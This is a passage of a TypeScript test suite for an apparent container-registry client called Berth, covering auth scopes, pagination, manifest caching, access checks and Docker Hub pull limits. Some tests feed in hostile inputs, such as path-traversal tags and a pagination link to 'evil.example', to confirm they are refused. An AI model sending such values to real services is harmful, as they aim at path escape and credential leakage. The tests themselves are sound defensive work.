            ? { status: 403, body: { errors: [{ code: 'DENIED', message: 'mallory may not read a' }] } }
            : { body: index, headers: { 'content-type': MediaType.OciIndex } };
        },
        { handshake: { scheme: 'none' } },
      );
      return new RegistryClient({
        host: 'r.example',
        baseUrl: ORIGIN,
        context,
        transport,
        credentials: { username: who, password: 'p' },
        scope: { client: who, signal },
      });
    };
    const leaving = new AbortController();
    const [mallory, alice, carol] = [client('mallory'), client('alice'), client('carol', leaving.signal)];
    // They all read the repository a moment ago: the summary of its digest is one they may share.
    await mallory.headManifest('a', 'v1');
    await alice.headManifest('a', 'v1');
    await carol.headManifest('a', 'v1');
    const first = mallory.describeDigest('a', digest);
    const second = alice.describeDigest('a', digest);
    const third = carol.describeDigest('a', digest);
    leaving.abort();
    release();
    await assert.rejects(first, (e: unknown) => e instanceof RegistryError && e.code === 'DENIED');
    await assert.rejects(third, (e: unknown) => e instanceof RegistryError && e.code === 'CANCELLED');
    const answered = await second.catch((e: unknown) => e);
    assert.ok(!(answered instanceof Error), `alice was handed mallory's failure: ${String(answered)}`);
    assert.equal((answered as { digest: string }).digest, digest);
  });
});

describe('what Berth asks of a registry', () => {
  const MiB = 1024 * 1024;

  test('every answer is read up to its cap: lists 16 MiB, manifests and referrers 4 MiB, configs 8 MiB, HEADs and DELETEs 1 MiB', async () => {
    const img = image('app');
    const asked: string[] = [];
    const client = registry((url, method, req) => {
      asked.push(`${method} ${url.pathname.split('/').slice(3).join('/') || url.pathname} ${req.maxBytes / MiB} MiB ${req.accept ?? '-'}`);
      if (url.pathname.endsWith('/tags/list')) return { body: { name: 'a', tags: [] } };
      if (url.pathname === '/v2/_catalog') return { body: { repositories: [] } };
      if (url.pathname.includes('/blobs/')) return { body: img.config };
      if (url.pathname.includes('/referrers/')) return { status: 404 };
      if (method === 'DELETE') return { status: 202 };
      return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': img.digest }, body: method === 'GET' ? img.manifest : undefined };
    });
    await client.listRepositories();
    await client.listTags('a');
    await client.headManifest('a', 'v1');
    await client.getManifest('a', 'v1');
    await client.getBlob('a', img.configDigest);
    await client.getReferrers('a', d('f'));
    await client.deleteManifest('a', img.digest);
    assert.deepEqual(
      asked.map((a) => a.replace(MANIFEST_ACCEPT, '(manifest types)')),
      [
        'GET /v2/_catalog 16 MiB application/json',
        'GET tags/list 16 MiB application/json',
        'HEAD manifests/v1 1 MiB (manifest types)',
        'GET manifests/v1 4 MiB (manifest types)',
        `GET blobs/${img.configDigest} 8 MiB -`,
        `GET referrers/${d('f')} 4 MiB ${MediaType.OciIndex}`,
        `GET manifests/sha256-${'f'.repeat(64)} 4 MiB (manifest types)`,
        `DELETE manifests/${img.digest} 1 MiB -`,
      ],
    );
  });

  test('every request asks the token service for pull on its repository alone; listing repositories, for the catalog; only a delete, for delete', async () => {
    const img = image('app');
    const operations: Array<[string, (c: RegistryClient) => Promise<unknown>, string[]]> = [
      ['listing repositories', (c) => c.listRepositories(), ['registry:catalog:*']],
      ['listing tags', (c) => c.listTags('team/app'), ['repository:team/app:pull']],
      ['a HEAD of a manifest', (c) => c.headManifest('team/app', 'v1'), ['repository:team/app:pull']],
      ['a manifest', (c) => c.getManifest('team/app', 'v1'), ['repository:team/app:pull']],
      ['a config', (c) => c.getBlob('team/app', img.configDigest), ['repository:team/app:pull']],
      ['a config shown as a document', (c) => c.getJsonDocument('team/app', img.configDigest), ['repository:team/app:pull']],
      ['referrers', (c) => c.getReferrers('team/app', img.digest), ['repository:team/app:pull']],
      ['a delete', (c) => c.deleteManifest('team/app', img.digest), ['repository:team/app:delete,pull']],
    ];
    for (const [what, operation, scopes] of operations) {
      const stub = testRegistry(
        (req): Answer => {
          if (req.method === 'DELETE') return { status: 202 };
          if (req.url.pathname === '/v2/_catalog') return { body: { repositories: ['team/app'] } };
          if (req.url.pathname.endsWith('/tags/list')) return { body: { name: 'team/app', tags: ['v1'] } };
          if (req.url.pathname.includes('/blobs/')) return { body: req.method === 'HEAD' ? undefined : img.config };
          if (req.url.pathname.includes('/referrers/'))
            return { headers: { 'content-type': MediaType.OciIndex }, body: { schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [] } };
          return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': img.digest }, body: img.manifest };
        },
        { handshake: { scheme: 'bearer' } },
      );
      const client = new RegistryClient({ host: 'r.example', baseUrl: ORIGIN, context: testContext(), transport: stub.transport, credentials: alice });
      await operation(client);
      assert.deepEqual(
        stub.tokenRequests().map((r) => r.url.searchParams.getAll('scope')),
        [scopes],
        what,
      );
      if (what === 'listing tags') {
        assert.deepEqual(await client.grantedAccess(['repository:team/app:pull']), [{ type: 'repository', name: 'team/app', actions: ['pull'] }]);
      }
    }
  });

  test('a reference that is not one is refused before anything is sent', async () => {
    const seen: string[] = [];
    const client = registry((url) => (seen.push(url.pathname), {}));
    const refused: Array<[string, Promise<unknown>]> = [
      ['a tag with a path in it', client.headManifest('a', '../x')],
      ['a digest too short', client.getManifest('a', 'sha256:abc')],
      ['a repository in upper case', client.getManifest('A/b', 'v1')],
      ['a tag too long, for the pull limit', client.checkPullLimit('a', 't'.repeat(200))],
      ['a digest of an algorithm Berth does not verify', client.getBlob('a', `md5:${'a'.repeat(32)}`)],
      ['a tag to delete that is a path', client.deleteTag('a', 'x/../y')],
      ['a digest to delete that is not one', client.deleteManifest('a', 'sha256:zz')],
      ['referrers of a tag', client.getReferrers('a', 'latest')],
      ['a summary of a bad digest', client.describeDigest('a', 'sha256:00')],
      ['a tag row of a bad tag', client.describeTag('a', '-x')],
    ];
    for (const [what, operation] of refused) await assert.rejects(operation, isCode('INVALID_REFERENCE'), what);
    assert.deepEqual(seen, []);
  });
});

describe('listing', () => {
  /** A tag list answering `page` for each request, recording the path and query asked. */
  const lister = (page: (url: URL, n: number) => Answer) => {
    const asked: string[] = [];
    const accepted: Array<string | undefined> = [];
    const client = registry((url, _method, req) => (asked.push(url.pathname + url.search), accepted.push(req.accept), page(url, asked.length)));
    return { client, asked, accepted };
  };
  const tagsPage = (tags: string[], link?: string): Answer => ({ body: { name: 'a', tags }, headers: link ? { link } : {} });

  test('pages: the first asks for 100 from the start; the Link’s path and query are the next cursor; a plain cursor is where to start', async () => {
    const { client, asked } = lister((url) =>
      url.searchParams.get('last') === 'b' ? tagsPage(['c']) : tagsPage(['a', 'b'], '</v2/a/tags/list?last=b&n=100>; rel="next"'),
    );
    const first = await client.listTags('a');
    assert.deepEqual(first, { items: ['a', 'b'], next: '/v2/a/tags/list?last=b&n=100', invalid: 0 });
    assert.deepEqual(await client.listTags('a', { cursor: first.next ?? '' }), { items: ['c'], next: null, invalid: 0 });
    await client.listTags('a', { cursor: 'b', n: 10 });
    assert.deepEqual(asked, ['/v2/a/tags/list?n=100', '/v2/a/tags/list?last=b&n=100', '/v2/a/tags/list?n=10&last=b']);
  });

  test('a repository without tags is an empty list (distribution answers "tags": null)', async () => {
    assert.deepEqual(await registry(() => ({ body: { name: 'a', tags: null } })).listTags('a'), { items: [], next: null, invalid: 0 });
  });

  test('a registry that caps its pages lower is asked again for its default 100, only when Berth chose the larger size', async () => {
    const tooMany: Answer = { status: 400, body: { errors: [{ code: 'PAGINATION_NUMBER_INVALID', message: 'n too large' }] } };
    const capped = lister((url) => (Number(url.searchParams.get('n')) > 100 ? tooMany : tagsPage(['v1'])));
    assert.deepEqual((await capped.client.listTags('a', { n: 1000 })).items, ['v1']);
    assert.deepEqual(capped.asked, ['/v2/a/tags/list?n=1000', '/v2/a/tags/list?n=100']);
    assert.deepEqual(capped.accepted, ['application/json', 'application/json']);

    const refusals: Array<[string, Answer, { n?: number; cursor?: string }]> = [
      ['a page of 100 refused', tooMany, { n: 100 }],
      ['a refusal for another reason', { status: 400, body: { errors: [{ code: 'NAME_INVALID' }] } }, { n: 1000 }],
      ['a refusal without a reason', { status: 400, body: 'Bad Request' }, { n: 1000 }],
      ['the registry’s own cursor refused', tooMany, { cursor: '/v2/a/tags/list?n=500&last=x' }],
    ];
    for (const [what, answer, opts] of refusals) {
      const once = lister(() => answer);
      await assert.rejects(once.client.listTags('a', opts), (e: unknown) => e instanceof RegistryError && e.upstreamStatus === 400, what);
      assert.equal(once.asked.length, 1, what);
    }
  });

  test('a cursor’s page size is kept within 1 to 1000; a cursor without one is sent as it is', async () => {
    const { client, asked } = lister(() => tagsPage(['1.0']));
    for (const n of ['0', '1', '1000', '1001', '-5']) await client.listTags('a', { cursor: `/v2/a/tags/list?n=${n}&last=x` });
    await client.listTags('a', { cursor: '/v2/a/tags/list?next_page=abc' });
    assert.deepEqual(
      asked.map((a) => a.replace('/v2/a/tags/list?', '')),
      ['n=1000&last=x', 'n=1&last=x', 'n=1000&last=x', 'n=1000&last=x', 'n=1000&last=x', 'next_page=abc'],
    );
  });

  const links: Array<[string, string, string | RegExp]> = [
    [
      'to another host',
      '<https://evil.example/v2/a/tags/list?last=b>; rel="next"',
      'sent a pagination link to another host (evil.example); Berth does not follow it.',
    ],
    ['to another list', '</v2/b/tags/list?last=b>; rel="next"', 'sent a pagination link Berth cannot follow (/v2/b/tags/list); the list may be incomplete.'],
    ['without a cursor', '</v2/a/tags/list>; rel="next"', 'sent a pagination link Berth cannot follow (/v2/a/tags/list)'],
  ];
  for (const [what, link, words] of links) {
    test(`a next link ${what} is not followed, and the list says so`, async () => {
      const { client } = lister(() => tagsPage(['v1'], link));
      await assert.rejects(client.listTags('a'), failsWith('BAD_RESPONSE', words));
    });
  }

  test('a registry that hands back the cursor it was given, or the page just asked, ends the list', async () => {
    const same = lister(() => tagsPage(['v1'], '</v2/a/tags/list?n=100&last=x>; rel="next"'));
    assert.equal((await same.client.listTags('a', { cursor: '/v2/a/tags/list?n=100&last=x' })).next, null);
    const capped = lister(() => tagsPage(['v1'], '</v2/a/tags/list?n=5000&last=x>; rel="next"'));
    assert.equal((await capped.client.listTags('a', { cursor: '/v2/a/tags/list?n=5000&last=x' })).next, null, 'the cursor given, though asked for 1000');
    const asked = lister(() => tagsPage(['v1'], '</v2/a/tags/list?n=100>; rel="next"'));
    assert.equal((await asked.client.listTags('a')).next, null);
    const onward = lister(() => tagsPage(['v1'], '</v2/a/tags/list?n=100&last=v1>; rel="next"'));
    assert.equal((await onward.client.listTags('a')).next, '/v2/a/tags/list?n=100&last=v1');
  });

  const unreadable: Array<[string, Buffer, string]> = [
    ['plain text', Buffer.from('Service temporarily overloaded <retry later>'), 'with something that is not JSON. Check that r.example'],
    ['a web page after blank lines', Buffer.from('\n\n  <html><body>Sign in</body></html>'), 'with something that is not JSON (a web page). Check'],
    ['JSON that is not a list of tags', enc({ name: 'a', tags: 'v1, v2' }), 'answered the list of tags of a with something that is not a list of tags.'],
  ];
  for (const [what, body, words] of unreadable) {
    test(`a tag list answered with ${what} says what came`, async () => {
      await assert.rejects(registry(() => ({ body })).listTags('a'), failsWith('BAD_RESPONSE', words));
    });
  }

  test('a tag list the registry refuses says why, naming the repository', async () => {
    await assert.rejects(
      registry(() => ({ status: 404, body: { errors: [{ code: 'NAME_UNKNOWN' }] } })).listTags('team/app'),
      failsWith('NAME_UNKNOWN', 'The repository team/app does not exist on r.example'),
    );
  });

  const catalogs: Array<[string, Answer, typeof alice | undefined, string, string]> = [
    ['refused to alice (403)', { status: 403 }, alice, 'CATALOG_UNSUPPORTED', 'r.example does not list its repositories for alice; open one by name.'],
    ['closed to anonymous visitors (403)', { status: 403 }, undefined, 'CATALOG_UNSUPPORTED', 'r.example does not list its repositories; open one by name.'],
    ['refused to alice’s token (401)', { status: 401 }, alice, 'CATALOG_UNSUPPORTED', 'for alice'],
    [
      'refused to alice, asking for other credentials (401 Basic)',
      { status: 401, headers: { 'www-authenticate': 'Basic realm="r"' } },
      alice,
      'CATALOG_UNSUPPORTED',
      'for alice',
    ],
    ['turned off (405)', { status: 405 }, alice, 'CATALOG_UNSUPPORTED', 'does not list its repositories'],
    ['unknown (404)', { status: 404 }, alice, 'CATALOG_UNSUPPORTED', 'does not list its repositories'],
    [
      'unknown as a manifest (404 MANIFEST_UNKNOWN)',
      { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } },
      alice,
      'CATALOG_UNSUPPORTED',
      'open one by name',
    ],
    ['asking anonymous visitors to sign in (401)', { status: 401 }, undefined, 'UNAUTHORIZED', 'r.example needs you to sign in'],
    ['down (503)', { status: 503 }, alice, 'UNAVAILABLE', 'answered with an error (HTTP 503)'],
  ];
  for (const [what, answer, credentials, code, words] of catalogs) {
    test(`a catalog ${what} is explained as ${code}`, async () => {
      const client = registry(() => answer, { credentials });
      await assert.rejects(client.listRepositories(), failsWith(code, words));
    });
  }

  test('Docker Hub is never asked for a catalog: it has none', async () => {
    const seen: string[] = [];
    const client = registry((url) => (seen.push(url.pathname), { body: { repositories: [] } }), { host: 'docker.io' });
    await assert.rejects(client.listRepositories(), failsWith('CATALOG_UNSUPPORTED', 'Docker Hub does not list repositories; open one by name'));
    assert.deepEqual(seen, []);
  });
});

describe('manifests', () => {
  const img = image('app');
  const legacy = enc({ schemaVersion: 1, name: 'a', tag: 'old', architecture: 'amd64', fsLayers: [], signatures: [{ protected: 'x' }] });
  /** Signed schema1: the digest covers the payload without its signatures, so it is not the bytes' own. */
  const legacyDigest = d('5');

  test('a HEAD tells the digest, the media type without its parameters, and the size, at the cost of one HEAD', async () => {
    const seen: string[] = [];
    const client = registry((_url, method) => {
      seen.push(method);
      return { headers: { 'docker-content-digest': img.digest, 'content-type': `${MediaType.OciManifest} ; charset=utf-8`, 'content-length': '1234' } };
    });
    assert.deepEqual(await client.headManifest('a', 'v1'), { digest: img.digest, mediaType: MediaType.OciManifest, size: 1234 });
    assert.deepEqual(seen, ['HEAD']);
  });

  test('a HEAD by digest without Docker-Content-Digest or Content-Type is the digest asked for; by tag, a GET tells', async () => {
    const seen: string[] = [];
    const client = registry((_url, method) => (seen.push(method), method === 'HEAD' ? {} : { body: img.manifest }));
    assert.deepEqual(await client.headManifest('a', d('a')), { digest: d('a'), mediaType: '', size: 0 });
    assert.deepEqual(seen, ['HEAD']);
    assert.deepEqual(await client.headManifest('a', 'v1'), { digest: img.digest, mediaType: MediaType.OciManifest, size: img.manifest.length });
    assert.deepEqual(seen, ['HEAD', 'HEAD', 'GET']);
  });

  test('a tag that is not there is said so after one HEAD, naming it', async () => {
    const seen: string[] = [];
    const client = registry((_url, method) => (seen.push(method), { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } }));
    await assert.rejects(client.headManifest('team/app', 'v9'), failsWith('MANIFEST_UNKNOWN', 'team/app:v9 was not found on r.example'));
    assert.deepEqual(seen, ['HEAD']);
    await assert.rejects(client.getManifest('team/app', 'v9'), failsWith('MANIFEST_UNKNOWN', 'team/app:v9 was not found'));
  });

  test('a HEAD naming something that is not a digest is refused in words', async () => {
    const client = registry(() => ({ headers: { 'docker-content-digest': 'sha256:nope', 'content-type': MediaType.OciManifest } }));
    await assert.rejects(
      client.headManifest('a', 'v1'),
      failsWith('BAD_RESPONSE', 'r.example sent a Docker-Content-Digest that is not a digest; Berth does not use it.'),
    );
  });

  test('a manifest by tag without Docker-Content-Digest is known by the digest of its bytes, with the warnings and type it came with', async () => {
    const untyped = enc({ schemaVersion: 2, config: { mediaType: MediaType.DockerConfig, digest: d('c'), size: 2 }, layers: [] });
    const client = registry(() => ({ headers: { 'content-type': MediaType.DockerManifest, warning: '299 - "this registry is deprecated"' }, body: untyped }));
    const m = await client.getManifest('a', 'v1');
    assert.equal(m.digest, sha256Digest(untyped));
    assert.equal(m.mediaType, MediaType.DockerManifest, 'the Content-Type names the type when the body does not');
    assert.deepEqual(m.warnings, ['299 - "this registry is deprecated"']);
  });

  test('a signed legacy manifest is known by its Docker-Content-Digest, by tag and by digest, but never kept: it cannot be verified', async () => {
    const seen: string[] = [];
    const context = testContext();
    const client = registry(
      (_url, method) => (
        seen.push(method),
        { headers: { 'content-type': MediaType.DockerSchema1Signed, 'docker-content-digest': legacyDigest }, body: legacy }
      ),
      { context },
    );
    assert.equal((await client.getManifest('a', 'old')).digest, legacyDigest);
    assert.equal((await client.getManifest('a', legacyDigest)).digest, legacyDigest);
    assert.equal((await client.getManifest('a', legacyDigest)).digest, legacyDigest);
    assert.equal(context.content.size, 0);
    assert.deepEqual(seen, ['GET', 'GET', 'GET'], 'each read asks the registry');
    const summary = await client.describeDigest('a', legacyDigest);
    assert.equal(summary.kind, 'legacy');
    assert.deepEqual(summary.platforms, [{ platform: 'linux/amd64', digest: legacyDigest }]);
  });
});

describe('the content cache: digest-addressed bytes, served only to whom the registry lets in', () => {
  const one = image('one');
  const two = image('two');

  test('a person who just read a repository is served its digests from the cache without asking again', async () => {
    const reg = store({ manifests: [one.manifest, two.manifest], blobs: [one.config] });
    const client = reg.as(alice);
    const first = await client.getManifest('a', one.digest);
    await client.getManifest('a', two.digest);
    await client.getBlob('a', one.configDigest);
    reg.seen.length = 0;
    const again = await client.getManifest('a', one.digest);
    assert.deepEqual(again, { ...first, warnings: [] });
    assert.equal((await client.getManifest('a', two.digest)).digest, two.digest, 'each digest its own bytes');
    assert.deepEqual(await client.getBlob('a', one.configDigest), one.config);
    assert.deepEqual(reg.seen, []);
    assert.equal(reg.context.stats.contentHits, 3);
  });

  test('another person is served the cached bytes only after a HEAD with their own credentials succeeds', async () => {
    const reg = store({ manifests: [one.manifest], blobs: [one.config], denied: ['mallory'] });
    await reg.as(alice).getManifest('a', one.digest);
    await reg.as(alice).getBlob('a', one.configDigest);
    reg.seen.length = 0;
    assert.deepEqual((await reg.as(bob).getManifest('a', one.digest)).bytes, one.manifest);
    assert.deepEqual(reg.seen, [`HEAD /v2/a/manifests/${one.digest}`], 'a HEAD, not the bytes again');
    assert.deepEqual(await reg.as(bob).getBlob('a', one.configDigest), one.config);
    assert.deepEqual(reg.seen, [`HEAD /v2/a/manifests/${one.digest}`], 'bob may read a now');
    reg.seen.length = 0;
    assert.deepEqual(await reg.as(carol).getBlob('a', one.configDigest), one.config);
    assert.deepEqual(reg.seen, [`HEAD /v2/a/blobs/${one.configDigest}`], 'a blob too: a HEAD, not the bytes again');
    assert.equal(reg.context.stats.contentHits, 3);

    for (let i = 0; i < 2; i++) {
      reg.seen.length = 0;
      await assert.rejects(reg.as(mallory).getManifest('a', one.digest), isCode('DENIED'));
      await assert.rejects(reg.as(mallory).getBlob('a', one.configDigest), failsWith('DENIED', `a@${one.configDigest}`));
      await assert.rejects(reg.as(mallory).describeDigest('a', one.digest), isCode('DENIED'));
      assert.deepEqual(reg.seen, [`HEAD /v2/a/manifests/${one.digest}`, `HEAD /v2/a/blobs/${one.configDigest}`, `HEAD /v2/a/manifests/${one.digest}`]);
    }
  });

  test('where HEAD is refused (405), the bytes are read again to confirm the person may read them', async () => {
    const context = testContext();
    const seen: string[] = [];
    const answer = (url: URL, method: string): Answer => {
      seen.push(method);
      if (method === 'HEAD') return { status: 405 };
      return url.pathname.includes('/blobs/') ? { body: one.config } : { headers: { 'content-type': MediaType.OciManifest }, body: one.manifest };
    };
    await registry(answer, { context, credentials: alice }).getManifest('a', one.digest);
    await registry(answer, { context, credentials: alice }).getBlob('a', one.configDigest);
    seen.length = 0;
    assert.deepEqual((await registry(answer, { context, credentials: bob }).getManifest('a', one.digest)).bytes, one.manifest);
    assert.deepEqual(await registry(answer, { context, credentials: mallory }).getBlob('a', one.configDigest), one.config);
    assert.deepEqual(seen, ['HEAD', 'GET', 'HEAD', 'GET']);
  });

  test('a manifest served from the cache is parsed once, frozen, and only ever with the entry it was read from', async () => {
    const reg = store({ manifests: [one.manifest] });
    const client = reg.as(alice);
    await client.getManifest('a', one.digest);
    const first = await client.getManifest('a', one.digest);
    const second = await client.getManifest('a', one.digest);
    assert.equal(second.parsed, first.parsed, 'the same parse, shared');
    assert.ok(Object.isFrozen(first.parsed) && Object.isFrozen(first.parsed.manifest), 'which no reader can change for the others');
    assert.equal(reg.context.parsedManifests.size, 1);
    // The content entry replaced (the same bytes read again): its own parse.
    const key = `${ORIGIN}|a|${one.digest}`;
    const entry = reg.context.content.get(key);
    assert.ok(entry);
    reg.context.content.set(key, { ...entry }, 60_000, entry.bytes.length);
    const third = await client.getManifest('a', one.digest);
    assert.notEqual(third.parsed, first.parsed);
    assert.deepEqual(third.parsed, first.parsed);
    // A deleted manifest is forgotten with its parse.
    await client.deleteManifest('a', one.digest);
    assert.equal(reg.context.parsedManifests.size, 0);
  });

  test('a cached blob larger than the caller reads is refused unread', async () => {
    const reg = store({ blobs: [one.config] });
    await reg.client.getBlob('a', one.configDigest);
    reg.seen.length = 0;
    assert.deepEqual(await reg.client.getBlob('a', one.configDigest, one.config.length), one.config, 'exactly its size is read');
    await assert.rejects(
      reg.client.getBlob('a', one.configDigest, one.config.length - 1),
      failsWith('BAD_RESPONSE', `The blob ${one.configDigest} is larger than Berth reads here.`),
    );
    assert.deepEqual(reg.seen, []);
  });

  test('a blob the registry does not have is said so, naming it', async () => {
    await assert.rejects(store({}).client.getBlob('team/app', d('b')), failsWith('BLOB_UNKNOWN', `r.example does not have the blob ${d('b')} in team/app.`));
  });
});

describe('Docker Hub, where every manifest GET is a pull', () => {
  const img = image('hub');
  const limit = { 'ratelimit-limit': '100;w=21600', 'ratelimit-remaining': '0;w=21600' };

  test('a tag is resolved with a HEAD, which is no pull, and served from the cache when its digest is there', async () => {
    const reg = store({ host: 'docker.io', manifests: [img.manifest], tags: { v1: img.digest }, headers: { warning: '299 - "deprecated"' } });
    await reg.client.getManifest('library/a', 'v1');
    assert.deepEqual(reg.seen, ['HEAD /v2/library/a/manifests/v1', 'GET /v2/library/a/manifests/v1']);
    reg.seen.length = 0;
    const again = await reg.client.getManifest('library/a', 'v1');
    assert.equal(again.digest, img.digest);
    assert.deepEqual(again.warnings, ['299 - "deprecated"'], 'with the warnings the HEAD carried');
    assert.deepEqual(reg.seen, ['HEAD /v2/library/a/manifests/v1']);
    assert.equal(reg.context.stats.contentHits, 1);
  });

  const heads: Array<[string, Answer, string[]]> = [
    ['refuses HEAD (405)', { status: 405 }, ['HEAD', 'GET']],
    ['leaves the digest out', { headers: { 'content-type': MediaType.OciManifest } }, ['HEAD', 'GET']],
    ['names something that is not a digest', { headers: { 'docker-content-digest': 'sha256:bad' } }, ['HEAD', 'GET']],
  ];
  for (const [what, head, methods] of heads) {
    test(`a cached tag whose HEAD ${what} is read with a GET`, async () => {
      const seen: string[] = [];
      const context = testContext();
      const hub = (h: Answer) =>
        registry(
          (_url, method) => (
            seen.push(method),
            method === 'HEAD' ? h : { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': img.digest }, body: img.manifest }
          ),
          { host: 'docker.io', context },
        );
      await hub({ headers: { 'docker-content-digest': img.digest } }).getManifest('library/a', 'v1');
      seen.length = 0;
      assert.equal((await hub(head).getManifest('library/a', 'v1')).digest, img.digest);
      assert.deepEqual(seen, methods);
    });
  }

  test('a tag whose HEAD says it is not there costs no GET', async () => {
    const seen: string[] = [];
    const client = registry((_url, method) => (seen.push(method), { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } }), { host: 'docker.io' });
    await assert.rejects(client.getManifest('library/a', 'v9'), failsWith('MANIFEST_UNKNOWN', 'library/a:v9 was not found'));
    assert.deepEqual(seen, ['HEAD']);
  });

  test('a used-up pull limit is said with its quota and when pulls work again; no GET is sent before then, HEADs still go', async () => {
    const seen: string[] = [];
    const client = registry(
      (_url, method) => {
        seen.push(method);
        return method === 'HEAD'
          ? { headers: { ...limit, 'docker-content-digest': img.digest, 'content-type': MediaType.OciManifest } }
          : { status: 429, headers: { ...limit, 'retry-after': '120' }, body: 'Too Many Requests' };
      },
      { host: 'docker.io' },
    );
    const sentence =
      "docker.io's pull limit is used up (100 per 6 h). Pulls work again in 2 min. Everyone using this Berth without signing in shares one limit: sign in to use your own.";
    await assert.rejects(client.getManifest('library/a', 'v1'), (e: unknown) => {
      assert.ok(e instanceof RegistryError);
      assert.deepEqual([e.code, e.message, e.upstreamStatus, e.retryAfter], ['TOOMANYREQUESTS', sentence, 429, 120]);
      return true;
    });
    await assert.rejects(client.getManifest('library/a', 'v2'), (e: unknown) => {
      assert.ok(e instanceof RegistryError);
      assert.deepEqual([e.code, e.upstreamStatus], ['TOOMANYREQUESTS', undefined]);
      assert.ok(e.retryAfter !== undefined && e.retryAfter > 100 && e.retryAfter <= 120, `${e.retryAfter}`);
      return true;
    });
    assert.deepEqual(seen, ['HEAD', 'GET', 'HEAD'], 'the second read sent no GET');
    const now = await client.checkPullLimit('library/a', 'v1');
    assert.deepEqual([now?.limit, now?.remaining, now?.windowSeconds, now?.retryAt !== undefined], [100, 0, 21600, true]);
    assert.deepEqual(seen, ['HEAD', 'GET', 'HEAD', 'HEAD']);
  });

  test('a signed-in person’s used-up limit is their own, and without Retry-After they are told to wait a while', async () => {
    const client = registry(
      (_url, method): Answer =>
        method === 'HEAD'
          ? { headers: { 'ratelimit-limit': '200', 'ratelimit-remaining': '0', 'docker-content-digest': img.digest } }
          : { status: 429, headers: { 'ratelimit-limit': '200', 'ratelimit-remaining': '0' } },
      { host: 'docker.io', credentials: alice },
    );
    await assert.rejects(client.getManifest('library/a', 'v1'), (e: unknown) => {
      assert.ok(e instanceof RegistryError);
      assert.equal(e.message, "docker.io's pull limit is used up (200). Wait a while and try again.");
      assert.equal(e.retryAfter, undefined);
      return true;
    });
  });

  test('once a limit is known, other failures are still themselves', async () => {
    const client = registry(
      (url, method) =>
        method === 'HEAD' && url.pathname.endsWith('/v1')
          ? { headers: { ...limit, 'docker-content-digest': img.digest } }
          : { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } },
      { host: 'docker.io' },
    );
    assert.equal((await client.checkPullLimit('library/a', 'v1'))?.limit, 100);
    await assert.rejects(client.getManifest('library/a', 'v9'), isCode('MANIFEST_UNKNOWN'));
    await assert.rejects(client.checkPullLimit('library/a', 'v9'), failsWith('MANIFEST_UNKNOWN', 'library/a:v9 was not found'));
  });

  test('the limit is read from a HEAD answered 429 too', async () => {
    const client = registry(() => ({ status: 429, headers: { ...limit, 'retry-after': '60' } }), { host: 'docker.io' });
    assert.deepEqual((await client.checkPullLimit('library/a', 'v1'))?.remaining, 0);
  });

  test('elsewhere a 429 is the registry’s rate limit, not a pull limit', async () => {
    const client = registry(() => ({ status: 429, headers: { 'retry-after': '30' } }));
    await assert.rejects(client.getManifest('a', 'v1'), failsWith('TOOMANYREQUESTS', 'r.example is rate-limiting requests. Try again in 30 s.'));
  });

  test('a pull limit is shown for its window, or six hours when the registry names none', async (t) => {
    t.after(() => mock.timers.reset());
    mock.timers.enable({ apis: ['Date'], now: Date.parse('2026-03-01T00:00:00Z') });
    const hub = (headers: Record<string, string>) => registry(() => ({ headers: { ...headers, 'docker-content-digest': img.digest } }), { host: 'docker.io' });
    const windowed = hub({ 'ratelimit-limit': '100;w=600', 'ratelimit-remaining': '7;w=600' });
    const plain = hub({ 'ratelimit-limit': '100', 'ratelimit-remaining': '7' });
    await windowed.checkPullLimit('library/a', 'v1');
    await plain.checkPullLimit('library/a', 'v1');
    mock.timers.tick(599_000);
    assert.equal(windowed.pullLimit()?.remaining, 7);
    mock.timers.tick(1_000);
    assert.equal(windowed.pullLimit(), undefined, 'forgotten when its window has passed');
    mock.timers.tick(6 * 3600_000 - 601_000);
    assert.equal(plain.pullLimit()?.remaining, 7);
    mock.timers.tick(1_000);
    assert.equal(plain.pullLimit(), undefined);
  });
});

describe('blobs shown as documents', () => {
  const notADocument = (words: string) => failsWith('NOT_A_DOCUMENT', words);

  test('a document keeps the Content-Type, Content-Length and Docker-Content-Digest it came with, each cut to a sane length', async () => {
    const config = enc({ architecture: 'amd64', os: 'linux' });
    const digest = sha256Digest(config);
    const sent = {
      'content-type': `application/octet-stream; x=${'y'.repeat(400)}`,
      'docker-content-digest': `${digest}${'z'.repeat(300)}`,
      'content-length': '9'.repeat(40),
    };
    const client = registry(() => ({ headers: sent, body: config }));
    const document = await client.getBlobDocument('a', digest);
    assert.deepEqual(document.headers, {
      contentType: sent['content-type'].slice(0, 300),
      dockerContentDigest: sent['docker-content-digest'].slice(0, 300),
      contentLength: '9'.repeat(30),
    });
    assert.deepEqual((await client.getBlobDocument('a', digest)).headers, document.headers, 'and keeps them in the cache');
    const bare = registry(() => ({ body: config }));
    assert.deepEqual((await bare.getBlobDocument('a', digest)).headers, {});
  });

  test('a JSON document of exactly 1 MiB is shown', async () => {
    const bytes = Buffer.from(`"${'x'.repeat(1024 * 1024 - 2)}"`);
    const client = registry((_url, method) => (method === 'HEAD' ? { headers: { 'content-length': String(bytes.length) } } : { body: bytes }));
    assert.equal((await client.getJsonDocument('a', sha256Digest(bytes))).bytes.length, 1024 * 1024);
  });

  test('a refusal says what the blob is and what is shown', async () => {
    const text = Buffer.from('plain text, not JSON');
    await assert.rejects(
      registry(() => ({ body: text })).getJsonDocument('team/app', sha256Digest(text)),
      notADocument(
        `The blob ${sha256Digest(text)} of team/app is not JSON text, so Berth does not show it as a document: only image configs and other JSON documents up to 1 MiB are shown.`,
      ),
    );
  });

  test('what is no document is remembered for that blob and that person, for ten minutes after each ask', async (t) => {
    t.after(() => mock.timers.reset());
    mock.timers.enable({ apis: ['Date'], now: Date.parse('2026-03-01T00:00:00Z') });
    const config = enc({ architecture: 'amd64', os: 'linux' });
    const layer = d('9');
    const reg = store({ blobs: [config] });
    const seen: string[] = [];
    const answer = (url: URL, method: string): Answer => {
      seen.push(`${method} ${url.pathname.split('/').pop()}`);
      return url.pathname.endsWith(layer) ? { headers: { 'content-length': String(50 * 1024 * 1024) } } : { body: config };
    };
    const context = reg.context;
    const asAlice = registry(answer, { context, credentials: alice });
